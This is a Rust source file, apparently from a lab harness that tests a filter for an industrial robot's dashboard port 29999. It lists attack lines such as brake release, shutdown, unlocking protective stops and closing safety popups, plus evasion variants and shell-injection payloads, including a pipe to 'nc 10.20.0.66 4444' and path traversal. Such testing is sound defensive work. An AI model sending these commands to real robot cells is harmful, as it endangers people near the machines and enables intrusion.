//! Dashboard commands that no panel of this cell sends, and injection into those it does.

use super::{Attack, Marker, Outcome, Session, Target};
use crate::lab::cell::Host;

/// Also from the panel's own address, where the service is allowed and every line must be judged.
const FROM: &[Host] = &[Host::Attacker, Host::Plc, Host::Panel];

const OPEN_DASHBOARD: &str = "CVE-2020-10265, RVD#1443";
const INJECTION: &str = "CVE-2026-8153, T0866";

fn send(target: &Target, bytes: &[u8]) -> Outcome {
    let mut session = Session::open(target, 29999);
    session.listen();
    session.send(bytes);
    session.listen();
    session.done()
}

fn line(name: &'static str, description: &'static str, source: &'static str, text: &'static str) -> Attack {
    marked(name, description, source, text, text)
}

fn marked(
    name: &'static str,
    description: &'static str,
    source: &'static str,
    text: &'static str,
    marker: &'static str,
) -> Attack {
    Attack {
        name,
        description,
        source,
        port: 29999,
        from: FROM,
        markers: vec![Marker::Bytes(marker.into())],
        act: Box::new(move |target| send(target, format!("{text}\n").as_bytes())),
    }
}

pub(super) fn attacks() -> Vec<Attack> {
    let mut attacks = vec![
        line("dashboard-shutdown", "shuts arm and controller down", OPEN_DASHBOARD, "shutdown"),
        line("dashboard-brake-release", "releases the brakes", OPEN_DASHBOARD, "brake release"),
        line("dashboard-unlock", "unlocks a protective stop unseen", "T0878, T0880", "unlock protective stop"),
        line("dashboard-restart-safety", "restarts the safety system", "T0880, CVE-2020-10265", "restart safety"),
        line("dashboard-safety-popup", "closes the warning people should read", "T0878", "close safety popup"),
        line("dashboard-mode", "changes the operational mode", "T0858", "set operational mode manual"),
        line(
            "dashboard-installation",
            "loads another installation, with its safety settings",
            "T0843, T0821",
            "load installation attack.installation",
        ),
        line("dashboard-other-program", "loads a program this cell never runs", "T0821", "load /programs/attack.urp"),
        line("dashboard-role", "takes a user role", "CVE-2020-10265", "setUserRole programmer"),
        line("dashboard-capitals", "the same in odd capitals and blanks", OPEN_DASHBOARD, "BrAkE   ReLeAsE"),
        line("dashboard-tab", "a tab instead of a blank", OPEN_DASHBOARD, "brake\trelease"),
        line("dashboard-carriage", "a carriage return before the line's end", OPEN_DASHBOARD, "shutdown\r"),
        line("dashboard-leading", "blanks before the command", OPEN_DASHBOARD, "   shutdown"),
        line("injection-semicolon", "a shell command behind a program", INJECTION, "load /programs/pick_v4.urp;reboot"),
        line("injection-substitution", "a shell substitution in a path", INJECTION, "load /programs/$(reboot).urp"),
        line("injection-backtick", "backticks in a path", INJECTION, "load /programs/`reboot`.urp"),
        line("injection-pipe", "a pipe in a log message", INJECTION, "addToLog x | nc 10.20.0.66 4444"),
        line("injection-ampersand", "two ampersands in a popup", INJECTION, "popup x && shutdown -h now"),
        line(
            "injection-quote",
            "a closing quote in a support file path",
            INJECTION,
            "generate support file '/tmp';id'",
        ),
        line("injection-traversal", "a path that climbs", INJECTION, "load /programs/../../root/attack.urp"),
        line("injection-null", "a zero byte inside a path", INJECTION, "load /programs/pick_v4.urp\0.attack"),
    ];
    attacks.push(Attack {
        act: Box::new(|target| send(target, b"robotmode\nshutdown\n")),
        ..line("dashboard-behind", "a forbidden line behind an allowed one in one segment", OPEN_DASHBOARD, "shutdown")
    });
    attacks.push(Attack {
        act: Box::new(|target| {
            let mut session = Session::open(target, 29999);
            session.listen();
            session.send_slowly(b"shutdown\n");
            session.listen();
            session.done()
        }),
        ..line("dashboard-split", "a forbidden line, one byte a segment", OPEN_DASHBOARD, "shutdown")
    });
    attacks.push(Attack {
        act: Box::new(|target| {
            let mut session = Session::open(target, 29999);
            session.listen();
            session.send(b"brake release");
            session.done()
        }),
        ..line(
            "dashboard-unterminated",
            "a line without its end, then the connection's",
            OPEN_DASHBOARD,
            "brake release",
        )
    });
    attacks
}
